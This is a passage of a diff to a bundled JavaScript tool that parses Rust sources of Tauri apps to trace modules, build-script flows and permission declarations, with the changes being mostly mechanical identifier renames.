+      if (text3?.kind === "text" && /^[^\s{}]+\.\w+$/.test(text3.text))
+        given2.push({ macro: token2.text, text: text3.text, at: place(text3.start, text3.end) });
     }
   }
   return { defined, given: given2 };
@@ -20695,19 +23630,19 @@ function bringingMacros(files) {
 }
 
 // src/tauri/rust/modules.ts
-var read4 = /* @__PURE__ */ new WeakMap();
+var read6 = /* @__PURE__ */ new WeakMap();
 function referencesIn(file2) {
-  const known6 = read4.get(file2);
-  if (known6 !== void 0) return known6;
+  const known7 = read6.get(file2);
+  if (known7 !== void 0) return known7;
   const found9 = referencesOf(rustSource(file2));
-  read4.set(file2, found9);
+  read6.set(file2, found9);
   return found9;
 }
 function referencesOf(source) {
   const { fault, file: file2 } = source;
   const place = placesIn(file2);
   const items = itemsOf2(source);
-  const names2 = {
+  const names3 = {
     constants: namesOf(items.constants),
     macros: namesOf(items.macros),
     modules: namesOf(items.modules),
@@ -20716,7 +23651,7 @@ function referencesOf(source) {
   if (fault !== null)
     return {
       references: [],
-      names: names2,
+      names: names3,
       macros: NO_MACROS,
       fault: { ...fault, at: place(fault.offset, fault.offset) }
     };
@@ -20735,7 +23670,7 @@ function referencesOf(source) {
       inMacro: isInMacro(groups3)
     };
   });
-  return { references, names: names2, macros: macroFiles(source, items, place), fault: null };
+  return { references, names: names3, macros: macroFiles(source, items, place), fault: null };
 }
 function namesOf(items) {
   return new Set(items.map(({ name }) => name));
@@ -20749,7 +23684,7 @@ function moduleOf(source, groups3, name, keyword) {
 }
 function pathsBefore(source, keyword) {
   const { tokens } = source;
-  const pathIn = ({ from }) => {
+  const pathIn2 = ({ from }) => {
     if (tokens[from]?.text !== "path" || !isMark(tokens[from + 1], "=")) return [];
     const value = tokens[from + 2];
     return [value?.kind === "text" ? value.text : null];
@@ -20759,9 +23694,9 @@ function pathsBefore(source, keyword) {
     ({ from }) => tokens[from]?.text === "cfg_attr" && isOpen(tokens[from + 1], "(")
   );
   return {
-    always: attributes2.flatMap(pathIn)[0],
+    always: attributes2.flatMap(pathIn2)[0],
     maybe: conditional.flatMap(
-      ({ from }) => argumentsAt(source, from + 1).slice(1).flatMap(pathIn)
+      ({ from }) => argumentsAt(source, from + 1).slice(1).flatMap(pathIn2)
     )
   };
 }
@@ -20788,18 +23723,18 @@ function inclusionsIn(source) {
     return [{ kind: "include", at: at2, isMaybe: !isInclude, argument, written: written6 }];
   });
 }
-var DEEPEST7 = 64;
+var DEEPEST10 = 64;
 function moduleFiles({ name, path: always, maybe, within: within4 }, path, ownsFolder) {
-  if (within4.length > DEEPEST7) return [null];
-  let named9 = folderOf(path);
-  let unnamed2 = ownsFolder ? named9 : path.replace(/\.[^./]*$/, "");
+  if (within4.length > DEEPEST10) return [null];
+  let named10 = folderOf(path);
+  let unnamed2 = ownsFolder ? named10 : path.replace(/\.[^./]*$/, "");
   for (const module of within4) {
-    const next2 = module.path === null ? below3(unnamed2, module.name) : below3(named9, module.path);
-    named9 = next2;
+    const next2 = module.path === null ? below3(unnamed2, module.name) : below3(named10, module.path);
+    named10 = next2;
     unnamed2 = next2;
   }
   const byPath2 = (each) => {
-    const found9 = each === null ? null : below3(named9, each);
+    const found9 = each === null ? null : below3(named10, each);
     return found9 === null ? null : { path: found9, ownsFolder: true };
   };
   if (always !== void 0) return [byPath2(always)];
@@ -20815,7 +23750,7 @@ function below3(folder, path) {
 
 // src/tauri/rust/paths.ts
 function includedPath(argument, path, crate2) {
-  const parts = argument === void 0 ? void 0 : partsOf10(argument);
+  const parts = argument === void 0 ? void 0 : partsOf12(argument);
   if (parts === void 0) return void 0;
   const [first, ...rest2] = parts;
   const below6 = rest2.join("");
@@ -20823,7 +23758,7 @@ function includedPath(argument, path, crate2) {
   return /^[/\\]/.test(below6) ? joined(crate2, below6.slice(1)) : void 0;
 }
 var CRATE = /* @__PURE__ */ Symbol("CARGO_MANIFEST_DIR");
-function partsOf10(argument) {
+function partsOf12(argument) {
   if (argument.kind === "text") return [argument.value];
   if (argument.kind !== "macro") return void 0;
   const [only, ...others] = argument.arguments;
@@ -20831,7 +23766,7 @@ function partsOf10(argument) {
   if (name === "env")
     return others.length === 0 && only?.kind === "text" && only.value === "CARGO_MANIFEST_DIR" ? [CRATE] : void 0;
   if (name !== "concat") return void 0;
-  const parts = argument.arguments.map(partsOf10);
+  const parts = argument.arguments.map(partsOf12);
   return parts.every((part) => part !== void 0) ? parts.flat() : void 0;
 }
 
@@ -20847,7 +23782,7 @@ function walkFrom(project, crate2, path) {
   return walk2.read();
 }
 var MOST_FILES = 2e4;
-var MOST_GAPS = 50;
+var MOST_GAPS2 = 50;
 var CodeWalk = class {
   #project;
   #crate;
@@ -20873,12 +23808,12 @@ var CodeWalk = class {
   roots() {
     const { folder, manifest: manifest2 } = this.#crate;
     const { contents, files } = this.#project;
-    for (const { path, named: named9, at: at2 } of crateTargets(manifest2, folder, contents))
+    for (const { path, named: named10, at: at2 } of crateTargets(manifest2, folder, contents))
       if (!this.go(path, true, [], at2 ?? topOf(inFolder(folder, "Cargo.toml"))) && at2 !== null)
         this.#unknown(
           at2,
-          ["target", named9],
-          `Cargo.toml names ${code(named9)} as code of the app, and no file is there.`
+          ["target", named10],
+          `Cargo.toml names ${code(named10)} as code of the app, and no file is there.`
         );
     const script = buildScriptTarget(manifest2, folder);
     if (script !== null) this.go(script.path, true, [], topOf(inFolder(folder, "Cargo.toml")));
@@ -20889,9 +23824,9 @@ var CodeWalk = class {
   /** Whether there is a file to visit at a path. */
   go(path, ownsFolder, requires, from) {
     if (path === null || !this.#project.contents.isFile(path)) return false;
-    const known6 = this.#requires.get(path);
-    const left2 = known6?.filter((each) => requires.some((other) => isSame2(each, other)));
-    if (known6 !== void 0 && left2?.length === known6.length) return true;
+    const known7 = this.#requires.get(path);
+    const left2 = known7?.filter((each) => requires.some((other) => isSame3(each, other)));
+    if (known7 !== void 0 && left2?.length === known7.length) return true;
     if (this.#requires.size >= MOST_FILES) return false;
     this.#requires.set(path, left2 ?? requires);
     this.#todo.push({ path, ownsFolder, requires: left2 ?? requires, from });
@@ -20946,8 +23881,8 @@ var CodeWalk = class {
     const bringing = bringingMacros(visited.map(({ macros }) => macros));
     if (bringing.size === 0) return;
     for (const { path, requires, macros } of visited)
-      for (const { macro, text: text2, at: at2 } of macros.given)
-        if (bringing.has(macro)) this.go(joined(folderOf(path), text2), true, requires, at2);
+      for (const { macro, text: text3, at: at2 } of macros.given)
+        if (bringing.has(macro)) this.go(joined(folderOf(path), text3), true, requires, at2);
   }
   /** A path in a form that two revisions can share, and what lies there. */
   #placed(path) {
@@ -20959,7 +23894,7 @@ var CodeWalk = class {
   /** Keeps each gap once, though several ways may lead to a file. Gaps beyond the bound are counted together. */
   #keep(gap3) {
     const name = JSON.stringify([gap3.path, gap3.line, gap3.kind, gap3.rests]);
-    if (this.#gaps.size < MOST_GAPS) this.#gaps.set(name, gap3);
+    if (this.#gaps.size < MOST_GAPS2) this.#gaps.set(name, gap3);
     else this.#beyond.push(gap3);
   }
   /** The gaps that are listed one by one, and one for the rest. */
@@ -20978,7 +23913,7 @@ function unreadCode(file2, { at: at2, message: why }) {
 function isNoBuild(requires) {
   return requires.some(({ kind }) => kind === "test" || kind === "never");
 }
-function isSame2(a3, b5) {
+function isSame3(a3, b5) {
   return a3.kind === b5.kind && a3.name === b5.name;
 }
 
@@ -20990,19 +23925,19 @@ function isRustOfApp(path, root) {
 }
 var found3 = /* @__PURE__ */ new WeakMap();
 function rustOfApp(project) {
-  const known6 = found3.get(project);
-  if (known6 !== void 0) return known6;
+  const known7 = found3.get(project);
+  if (known7 !== void 0) return known7;
   const crates = appCrates(project);
   const walks = crates.map((crate2) => walkCode(project, crate2));
-  const reached2 = new Map(walks.flatMap(({ files }) => files.map((each) => [each.file.path, each])));
+  const reached3 = new Map(walks.flatMap(({ files }) => files.map((each) => [each.file.path, each])));
   const beside = [...project.files.values()].flatMap((file2) => {
     const crate2 = crates.find(({ folder }) => isRustOfApp(file2.path, folder));
-    return crate2 === void 0 || reached2.has(file2.path) ? [] : [{ file: file2, crate: crate2.folder, requires: [] }];
+    return crate2 === void 0 || reached3.has(file2.path) ? [] : [{ file: file2, crate: crate2.folder, requires: [] }];
   });
-  const named9 = new Set(walks.flatMap((walk2) => walk2.named));
+  const named10 = new Set(walks.flatMap((walk2) => walk2.named));
   const result2 = {
-    files: [...reached2.values(), ...beside],
-    isNamed: (path) => named9.has(path) || crates.some(({ folder }) => isRustOfApp(path, folder)),
+    files: [...reached3.values(), ...beside],
+    isNamed: (path) => named10.has(path) || crates.some(({ folder }) => isRustOfApp(path, folder)),
     gaps: [...walks.flatMap(({ gaps }) => gaps), ...beside.flatMap(({ file: file2 }) => unreadBeside(file2))]
   };
   found3.set(project, result2);
@@ -21016,8 +23951,8 @@ function unreadBeside(file2) {
 // src/tauri/rust/parsed-code.ts
 var parsed2 = /* @__PURE__ */ new WeakMap();
 function parsedCode(file2) {
-  const known6 = parsed2.get(file2);
-  if (known6 !== void 0) return known6;
+  const known7 = parsed2.get(file2);
+  if (known7 !== void 0) return known7;
   const source = rustSource(file2);
   const items = itemsOf2(source);
   const code2 = { source, items, groupsAt: enclosing(source, items) };
@@ -21037,10 +23972,10 @@ function indexCode(files) {
     const { items } = file2;
     byPath2.set(rust.file.path, file2);
     const declare = (kind, name, { from, to }, owner = null) => {
-      const known6 = declared3.get(name);
+      const known7 = declared3.get(name);
       const part = { file: file2, part: { from, to }, kind, owner };
-      if (known6 === void 0) declared3.set(name, [part]);
-      else known6.push(part);
+      if (known7 === void 0) declared3.set(name, [part]);
+      else known7.push(part);
     };
     for (const { name, keyword, parameters, body, owner } of items.functions)
       declare("function", name, { from: keyword, to: (body ?? parameters).to }, owner);
@@ -21050,12 +23985,12 @@ function indexCode(files) {
     for (const { name, keyword, body } of items.owners)
       declare("owner", name, { from: keyword, to: body.to });
   }
-  const sizeOf4 = (files2) => [...files2].reduce((sum, { source }) => sum + source.tokens.length, 0);
-  const size = sizeOf4(byPath2.values());
+  const sizeOf5 = (files2) => [...files2].reduce((sum, { source }) => sum + source.tokens.length, 0);
+  const size = sizeOf5(byPath2.values());
   const filesWith = (name) => {
-    const known6 = holding.get(name) ?? [...byPath2.values()].filter(({ rust }) => rust.file.text.includes(name));
-    holding.set(name, known6);
-    return known6;
+    const known7 = holding.get(name) ?? [...byPath2.values()].filter(({ rust }) => rust.file.text.includes(name));
+    holding.set(name, known7);
+    return known7;
   };
   return {
     file: (path) => byPath2.get(path),
@@ -21065,7 +24000,7 @@ function indexCode(files) {
         ({ as, path: [first = ""] }) => as === "*" ? others.has(first) : as === name && !OWN_CRATE.has(first)
       )
     ),
-    costOf: (name) => mentioned.has(name) ? 0 : Math.ceil(size / TOKENS_A_LOOK) + sizeOf4(filesWith(name)),
+    costOf: (name) => mentioned.has(name) ? 0 : Math.ceil(size / TOKENS_A_LOOK) + sizeOf5(filesWith(name)),
     mentions: (name) => {
       const found9 = mentioned.get(name) ?? mentionsIn(filesWith(name), name);
       mentioned.set(name, found9);
@@ -21077,7 +24012,7 @@ var TOKENS_A_LOOK = 10;
 function mentionsIn(files, name) {
   return files.flatMap(
     (file2) => file2.source.tokens.flatMap(
-      ({ kind, text: text2 }, index) => kind === "word" && text2 === name ? [{ file: file2, index }] : []
+      ({ kind, text: text3 }, index) => kind === "word" && text3 === name ? [{ file: file2, index }] : []
     )
   );
 }
@@ -21125,9 +24060,9 @@ function mentionsOf(project, words3) {
 function presentIn(file2, words3) {
   const ofWords = present.get(words3) ?? /* @__PURE__ */ new WeakMap();
   present.set(words3, ofWords);
-  const known6 = ofWords.get(file2) ?? words3.filter((word2) => file2.text.includes(word2));
-  ofWords.set(file2, known6);
-  return known6;
+  const known7 = ofWords.get(file2) ?? words3.filter((word2) => file2.text.includes(word2));
+  ofWords.set(file2, known7);
+  return known7;
 }
 var present = /* @__PURE__ */ new WeakMap();
 function readCode(rust) {
@@ -21165,14 +24100,14 @@ var COMMON = new Set(
     " "
   )
 );
-function contentsNamed(project, { file: file2, crate: crate2 }, text2) {
-  if (COMMON.has(text2)) return [];
-  const name = text2.replace(/^\$CARGO_MANIFEST_DIR/, "").replace(/^[/\\]/, "");
+function contentsNamed(project, { file: file2, crate: crate2 }, text3) {
+  if (COMMON.has(text3)) return [];
+  const name = text3.replace(/^\$CARGO_MANIFEST_DIR/, "").replace(/^[/\\]/, "");
   const folders = /* @__PURE__ */ new Set([folderOf(file2.path), crate2, project.location.root]);
   return [...folders].flatMap((folder) => {
     const path = joined(folder, name);
     const content = path === null || folder.startsWith(path) ? "" : project.contents.at(path);
-    return path === null || content === "" ? [] : [{ identity: wordsOf(text2, content), path }];
+    return path === null || content === "" ? [] : [{ identity: wordsOf(text3, content), path }];
   });
 }
 
@@ -21181,13 +24116,13 @@ var GENERATING = "alloc anyhow autocfg bindgen built cc cfg_aliases chrono cmake
   " "
 );
 function knownCrates(project, folder) {
-  const known6 = new Set(GENERATING);
+  const known7 = new Set(GENERATING);
   for (const { name, crate: crate2, source } of builtWith2(project, folder)) {
     const isKnown3 = GENERATING.includes(inCode(crate2)) && source.kind === "registry";
-    if (isKnown3) known6.add(inCode(name));
-    else known6.delete(inCode(name));
+    if (isKnown3) known7.add(inCode(name));
+    else known7.delete(inCode(name));
   }
-  return known6;
+  return known7;
 }
 function contentOfCrate(project, { rust }, name) {
   const used = builtWith2(project, rust.crate).filter((each) => inCode(each.name) === name);
@@ -21271,15 +24206,15 @@ function withoutConversions(expression) {
   const isFrom = found9.kind === "call" && /^(?:String|Vec)::from$/.test(found9.path.slice(-2).join("::"));
   return isFrom && only !== void 0 && others.length === 0 ? withoutConversions(only) : found9;
 }
-function textOf4(expression) {
+function textOf5(expression) {
   const found9 = expression && withoutConversions(expression);
   return found9?.kind === "text" ? { value: found9.value, span: found9.span } : void 0;
 }
 function textsOf(expression) {
   const found9 = expression && withoutConversions(expression);
   if (found9?.kind !== "list") return void 0;
-  const texts = found9.items.map(textOf4);
-  return texts.every((text2) => text2 !== void 0) ? texts : void 0;
+  const texts = found9.items.map(textOf5);
+  return texts.every((text3) => text3 !== void 0) ? texts : void 0;
 }
 function chainOf2(expression) {
   const methods = [];
@@ -21343,8 +24278,8 @@ function called(value, method, given2, scope) {
 function declaring(value, method, [only, ...others], scope) {
   if (only === void 0 || others.length > 0) return null;
   const texts = method === "commands" ? textsOf(scope.written(only)) : void 0;
-  if (texts !== void 0) return { ...value, commands: texts.map((text2) => given(text2, scope)) };
-  const pattern = method === "permissions_path_pattern" ? textOf4(scope.written(only)) : void 0;
+  if (texts !== void 0) return { ...value, commands: texts.map((text3) => given(text3, scope)) };
+  const pattern = method === "permissions_path_pattern" ? textOf5(scope.written(only)) : void 0;
   return pattern === void 0 ? null : { ...value, permissionsPattern: pattern.value };
 }
 function withDefault(value, [only, ...others], scope) {
@@ -21356,7 +24291,7 @@ function withDefault(value, [only, ...others], scope) {
   const [list, ...rest2] = rule.kind === "call" ? rule.arguments : [];
   const texts = list === void 0 ? void 0 : textsOf(scope.written(list));
   if (name !== "DefaultPermissionRule::Allow" || texts === void 0 || rest2.length > 0) return null;
-  return { ...value, default: texts.map((text2) => given(text2, scope)) };
+  return { ...value, default: texts.map((text3) => given(text3, scope)) };
 }
 function context(value, method, [only, ...others], scope) {
   if (only === void 0 || others.length > 0) return null;
@@ -21374,7 +24309,7 @@ function attributes(value, method, arguments_, scope) {
   if (method === "windows_attributes") return value;
   if (method === "plugins") return withPlugins(value, scope.written(first), scope);
   if (method === "capabilities_path_pattern") {
-    const pattern = textOf4(scope.written(first));
+    const pattern = textOf5(scope.written(first));
     return pattern === void 0 ? null : { ...value, capabilitiesPattern: pattern.value };
   }
   if (method === "config_path") {
@@ -21388,9 +24323,9 @@ function attributes(value, method, arguments_, scope) {
 var MOST_PLUGINS = 100;
 function withPlugin(value, name, plugin, scope) {
   if (value.plugins.size >= MOST_PLUGINS) return null;
-  const [text2, inner] = [textOf4(scope.written(name)), buildValue(plugin, scope)];
-  if (text2 === void 0 || inner?.kind !== "plugin") return null;
-  return { ...value, plugins: new Map([...value.plugins, [text2.value, inner]]) };
+  const [text3, inner] = [textOf5(scope.written(name)), buildValue(plugin, scope)];
+  if (text3 === void 0 || inner?.kind !== "plugin") return null;
+  return { ...value, plugins: new Map([...value.plugins, [text3.value, inner]]) };
 }
 function withPlugins(value, list, scope) {
   if (list.kind !== "list") return null;
@@ -21405,21 +24340,21 @@ function withPlugins(value, list, scope) {
 function pathOf(expression, scope) {
   const found9 = withoutConversions(scope.written(expression));
   const isPath = found9.kind === "call" && /^(?:Path::new|PathBuf::from)$/.test(found9.path.slice(-2).join("::"));
-  const text2 = textOf4(isPath ? found9.arguments[0] : found9);
-  return text2 && given(text2, scope);
+  const text3 = textOf5(isPath ? found9.arguments[0] : found9);
+  return text3 && given(text3, scope);
 }
 function given({ value, span }, { placeOf: placeOf8 }) {
   return { name: value, at: placeOf8(span) };
 }
 
 // src/readers/tauri-acl/build-flow.ts
-function followMain(file2, names2, call2, declaring2) {
+function followMain(file2, names3, call2, declaring2) {
   const [main, ...others] = file2.items.functions.filter(
     ({ name, owner }) => name === "main" && owner === null
   );
-  return main === void 0 || others.length > 0 ? null : new BuildFlow(file2, names2, call2, declaring2).follow(main);
+  return main === void 0 || others.length > 0 ? null : new BuildFlow(file2, names3, call2, declaring2).follow(main);
 }
-var DEEPEST8 = 4;
+var DEEPEST11 = 4;
 var LEAVING = /* @__PURE__ */ new Set(["abort", "exit", "return"]);
 var ITEMS2 = new Set(
   "const enum extern fn impl macro_rules mod static struct trait type use".split(" ")
@@ -21433,12 +24368,12 @@ var BuildFlow = class {
   #variables = /* @__PURE__ */ new Map();
   #result = null;
   #depth = 0;
-  constructor(file2, names2, call2, declaring2) {
+  constructor(file2, names3, call2, declaring2) {
     this.#file = file2;
     this.#call = call2;
     this.#declaring = declaring2;
     this.#scope = {
-      names: names2,
+      names: names3,
       placeOf: file2.placeOf,
       valueOf: (expression) => this.#valueOf(expression),
       written: (expression) => this.#written(expression)
@@ -21450,7 +24385,7 @@ var BuildFlow = class {
   }
   #run({ keyword, parameters, body }) {
     const isPlain = areRemarks(this.#file.source, attributesBefore(this.#file.source, keyword));
-    if (body === null || !isPlain || parameters.from < parameters.to || this.#depth >= DEEPEST8) return false;
+    if (body === null || !isPlain || parameters.from < parameters.to || this.#depth >= DEEPEST11) return false;
     this.#depth += 1;
     const isStraight = this.#block(body);
     this.#depth -= 1;
@@ -21498,9 +24433,9 @@ var BuildFlow = class {
     const value = buildValue(expression, this.#scope);
     if (!isInAll) {
       const before2 = this.#variables.get(name)?.value ?? null;
-      const isSame7 = JSON.stringify(said(before2)) === JSON.stringify(said(value));
-      if (declares || this.#touches(statement) && !isSame7) return false;
-      if (isSame7) return true;
+      const isSame8 = JSON.stringify(said(before2)) === JSON.stringify(said(value));
+      if (declares || this.#touches(statement) && !isSame8) return false;
+      if (isSame8) return true;
     }
     if (value === null && (declares || this.#touches(statement))) return false;
     this.#follow(statement);
@@ -21531,7 +24466,7 @@ var BuildFlow = class {
   #helperAt({ from, to }) {
     const { tokens } = this.#file.source;
     const isCall = isOpen(tokens[from + 1], "(") && tokens[from + 1]?.partner === from + 2;
-    if (!isCall || tokens.slice(from + 3, to).some(({ text: text2 }) => LEAVING.has(text2))) return void 0;
+    if (!isCall || tokens.slice(from + 3, to).some(({ text: text3 }) => LEAVING.has(text3))) return void 0;
     return this.#functionNamed(tokens[from]?.text ?? "", (body) => holds3(body, this.#call));
   }
   #functionNamed(name, isIt) {
@@ -21560,7 +24495,7 @@ var BuildFlow = class {
     const last = statements.pop();
     if (!isPlain || last === void 0 || last.to !== body?.to || parameters.from < parameters.to)
       return null;
-    if (this.#depth >= DEEPEST8) return null;
+    if (this.#depth >= DEEPEST11) return null;
     const outside = this.#variables;
     this.#variables = /* @__PURE__ */ new Map();
     this.#depth += 1;
@@ -21604,13 +24539,13 @@ var BuildFlow = class {
   }
   /** Whether a statement has to do with a variable that declares something. */
   #touches({ from, to }) {
-    return this.#file.source.tokens.slice(from, to).some(({ kind, text: text2 }) => {
-      const value = kind === "word" ? this.#variables.get(text2)?.value : void 0;
+    return this.#file.source.tokens.slice(from, to).some(({ kind, text: text3 }) => {
+      const value = kind === "word" ? this.#variables.get(text3)?.value : void 0;
       return value !== void 0 && value !== null && value.kind !== "other";
     });
   }
   #mayLeave({ from, to }) {
-    return this.#file.source.tokens.slice(from, to).some(({ kind, text: text2 }) => kind === "word" && LEAVING.has(text2));
+    return this.#file.source.tokens.slice(from, to).some(({ kind, text: text3 }) => kind === "word" && LEAVING.has(text3));
   }
 };
 var BEFORE_CALL = /^(?:|return|match|let \w+ =|let \w+ : [\w: <>()]+ =|if let Err \( \w+ \) =)$/;
@@ -21746,19 +24681,19 @@ function parameterOf({ source }, of2, name) {
   const position = parameters.findIndex(({ from, to }) => {
     const words3 = tokens.slice(from, to);
     const typed = words3.findIndex((token2) => isMark(token2, ":"));
-    return words3.slice(0, typed < 0 ? void 0 : typed).some(({ kind, text: text2 }) => kind === "word" && text2 === name);
+    return words3.slice(0, typed < 0 ? void 0 : typed).some(({ kind, text: text3 }) => kind === "word" && text3 === name);
   });
   const parameter = parameters[position];
   if (parameter === void 0) return void 0;
-  const isGiven = tokens.slice(parameter.from, parameter.to).some(({ kind, text: text2 }) => kind === "word" && GIVEN2.has(text2));
+  const isGiven = tokens.slice(parameter.from, parameter.to).some(({ kind, text: text3 }) => kind === "word" && GIVEN2.has(text3));
   return isGiven || name === "self" ? { kind: "given" } : { kind: "parameter", of: of2, position };
 }
 
 // src/readers/tauri-acl/build-guess.ts
-function seemingly(file2, names2, declaring2) {
+function seemingly(file2, names3, declaring2) {
   const { source } = file2;
   const { tokens } = source;
-  const scope = scopeOf2(file2, names2);
+  const scope = scopeOf2(file2, names3);
   const found9 = { ...ATTRIBUTES2, plugins: new Map(ATTRIBUTES2.plugins) };
   for (const index of declaring2) {
     if (!isMark(tokens[index - 1], ".")) {
@@ -21768,27 +24703,27 @@ function seemingly(file2, names2, declaring2) {
       continue;
     }
     const [first, second] = argumentsAt(source, index + 1).map((part) => expressionIn(source, part));
-    const text2 = textOf4(first)?.value;
+    const text3 = textOf5(first)?.value;
     const plugin = second && buildValue(second, scope);
-    if (tokens[index]?.text === "capabilities_path_pattern") found9.capabilitiesPattern = text2;
-    if (text2 !== void 0 && plugin?.kind === "plugin") found9.plugins.set(text2, plugin);
+    if (tokens[index]?.text === "capabilities_path_pattern") found9.capabilitiesPattern = text3;
+    if (text3 !== void 0 && plugin?.kind === "plugin") found9.plugins.set(text3, plugin);
   }
   return found9;
 }
-function declaresNothing(file2, names2, call2) {
+function declaresNothing(file2, names3, call2) {
   const { source } = file2;
   return argumentsAt(source, call2 + 1).every((part) => {
     const expression = expressionIn(source, part);
-    if (buildValue(expression, scopeOf2(file2, names2))?.kind === "attributes") return true;
+    if (buildValue(expression, scopeOf2(file2, names3))?.kind === "attributes") return true;
     const name = expression.kind === "name" && expression.path.length === 1 ? expression.path[0] : void 0;
     const binding = name === void 0 ? void 0 : bindingOf(file2, call2, name);
-    return binding?.kind === "parts" && binding.parts.every((each) => isOfItsOwn(file2, names2, each));
+    return binding?.kind === "parts" && binding.parts.every((each) => isOfItsOwn(file2, names3, each));
   });
 }
 var STANDARD = new Set(
   "Box Default Option Path PathBuf Result Self Some String Vec alloc core crate self std super".split(" ")
 );
-function isOfItsOwn({ source, items }, names2, { from, to }) {
+function isOfItsOwn({ source, items }, names3, { from, to }) {
   const { tokens } = source;
   for (let at2 = from; at2 < to; at2 += 1) {
     const name = tokens[at2]?.kind === "word" ? tokens[at2]?.text ?? "" : "";
@@ -21796,12 +24731,12 @@ function isOfItsOwn({ source, items }, names2, { from, to }) {
     const isUsed = isMark(tokens[at2 + 1], "::") || isOpen(tokens[at2 + 1], "(");
     if (name === "" || isPart || !isUsed || STANDARD.has(name)) continue;
     const imported2 = items.imports.find((each) => each.as === name)?.path[0];
-    if (names2([name, "new"]) === null && !STANDARD.has(imported2 ?? "")) return false;
+    if (names3([name, "new"]) === null && !STANDARD.has(imported2 ?? "")) return false;
   }
   return true;
 }
-function scopeOf2({ placeOf: placeOf8 }, names2) {
-  return { names: names2, placeOf: placeOf8, valueOf: () => null, written: (expression) => expression };
+function scopeOf2({ placeOf: placeOf8 }, names3) {
+  return { names: names3, placeOf: placeOf8, valueOf: () => null, written: (expression) => expression };
 }
 function chainAt({ source: { tokens } }, index) {
   let from = index;
@@ -21849,16 +24784,16 @@ var METHODS = /* @__PURE__ */ new Set([
   "plugin",
   "plugins"
 ]);
-function buildMentions({ source }, names2) {
+function buildMentions({ source }, names3) {
   const { tokens } = source;
   const [calls, values, declaring2] = [[], [], []];
   for (const [index, token2] of tokens.entries()) {
     if (token2.kind !== "word" || isMark(tokens[index + 1], "::")) continue;
     const path = pathTo(tokens, index);
-    const known6 = names2(path)?.split("::") ?? path;
-    const isRun = known6.length === 1 && names2(path) !== null && RUNS.has(known6[0] ?? "");
+    const known7 = names3(path)?.split("::") ?? path;
+    const isRun = known7.length === 1 && names3(path) !== null && RUNS.has(known7[0] ?? "");
     const isMethod2 = METHODS.has(token2.text) && (isMark(tokens[index - 1], ".") || path.length > 1);
-    const isDeclaring = isMethod2 || known6.some((name) => TYPES.has(name));
+    const isDeclaring = isMethod2 || known7.some((name) => TYPES.has(name));
     if (!isRun && !isDeclaring || isImport(tokens, index)) continue;
     if (isDeclaring) declaring2.push(index);
     else if (isOpen(tokens[index + 1], "(")) calls.push(index);
@@ -21906,11 +24841,11 @@ function buildNames(project, { imports, functions, modules, types }) {
 function crateNames({ location, files }) {
   const [own] = localCrates(cargoWorkspace(location.root, files), files);
   const built = own?.dependencies.filter(({ kind }) => kind === "build") ?? [];
-  const named9 = built.filter(({ crate: crate2 }) => crate2 === "tauri-build").map(({ name }) => name);
-  const isOther = built.some(
+  const named10 = built.filter(({ crate: crate2 }) => crate2 === "tauri-build").map(({ name }) => name);
+  const isOther2 = built.some(
     ({ name, crate: crate2 }) => nameInCode(name) === "tauri_build" && crate2 !== "tauri-build"
   );
-  return named9.length > 0 || isOther ? named9.map(nameInCode) : ["tauri_build"];
+  return named10.length > 0 || isOther2 ? named10.map(nameInCode) : ["tauri_build"];
 }
 function nameInCode(crate2) {
   return crate2.replaceAll("-", "_");
@@ -21936,13 +24871,13 @@ function isDebug({ flags }) {
 function ownFeatures(project) {
   const { flags, manifest: manifest2 } = project;
   const table2 = member(manifest2, "features");
-  const asked2 = PLATFORMS.flatMap(
+  const asked3 = PLATFORMS.flatMap(
     (platform) => stringsOf(pick(project.config(platform), "build", "features"))
   );
   const todo = [
     ...flags.noDefaultFeatures === null ? ["default"] : [],
     ...flags.allFeatures !== null && table2?.kind === "object" ? table2.entries.keys() : [],
-    ...[...asked2, ...flags.features].map(({ value }) => value)
+    ...[...asked3, ...flags.features].map(({ value }) => value)
   ];
   const on3 = /* @__PURE__ */ new Set();
   for (let next2 = todo.pop(); next2 !== void 0; next2 = todo.pop()) {
@@ -21955,8 +24890,8 @@ function ownFeatures(project) {
 
 // src/tauri/rust/crates-beside.ts
 function foldersBeside(project, { items }, name) {
-  const crates = known2.get(project) ?? cratesBeside(project);
-  known2.set(project, crates);
+  const crates = known3.get(project) ?? cratesBeside(project);
+  known3.set(project, crates);
   if (crates.size === 0) return /* @__PURE__ */ new Set();
   const imported2 = items.imports.filter(({ as }) => as === name || as === "*");
   const found9 = [name, ...imported2.map(({ path }) => path[0] ?? "")].flatMap(
@@ -21964,28 +24899,28 @@ function foldersBeside(project, { items }, name) {
   );
   return new Set(found9.map(({ manifest: manifest2 }) => manifest2.folder));
 }
-var known2 = /* @__PURE__ */ new WeakMap();
+var known3 = /* @__PURE__ */ new WeakMap();
 function cratesBeside(project) {
   const { location, files } = project;
   const crates = localCrates(cargoWorkspace(location.root, files), files);
-  const read7 = new Set(appCrates(project).map(({ folder }) => folder));
+  const read9 = new Set(appCrates(project).map(({ folder }) => folder));
   const byFolder = new Map(crates.map((crate2) => [crate2.manifest.folder, crate2]));
-  const named9 = crates.flatMap(
+  const named10 = crates.flatMap(
     ({ dependencies }) => dependencies.flatMap(({ name, source }) => {
       const folder = source.kind === "path" ? source.folder : null;
-      const crate2 = folder === null || read7.has(folder) ? void 0 : byFolder.get(folder);
+      const crate2 = folder === null || read9.has(folder) ? void 0 : byFolder.get(folder);
       return crate2 === void 0 ? [] : [[name.replaceAll("-", "_"), crate2]];
     })
   );
-  return new Map(named9);
+  return new Map(named10);
 }
 function ownCrates({ location, files }) {
   const crates = localCrates(cargoWorkspace(location.root, files), files);
-  const names2 = named3.get(crates) ?? new Set(crates.flatMap(namesOfFolders));
-  named3.set(crates, names2);
-  return names2;
+  const names3 = named4.get(crates) ?? new Set(crates.flatMap(namesOfFolders));
+  named4.set(crates, names3);
+  return names3;
 }
-var named3 = /* @__PURE__ */ new WeakMap();
+var named4 = /* @__PURE__ */ new WeakMap();
 function namesOfFolders({ dependencies }) {
   return dependencies.flatMap(
     ({ name, source }) => source.kind === "path" ? [name.replaceAll("-", "_")] : []
@@ -21993,10 +24928,10 @@ function namesOfFolders({ dependencies }) {
 }
 
 // src/tauri/rust/settings.ts
-function settingsOf4(project, name, also = null) {
+function settingsOf5(project, name, also = null) {
   const { location, contents } = project;
   const folders = withAncestors(location.root).map((folder) => inFolder(folder, ".cargo"));
-  const paths3 = [...folders, ...scriptsOf2(project)];
+  const paths3 = [...folders, ...scriptsOf(project)];
   const said2 = linesAbout(project, name, also);
   return {
     identity: wordsOf(
@@ -22012,25 +24947,25 @@ function packageKey({ manifest: manifest2 }, name) {
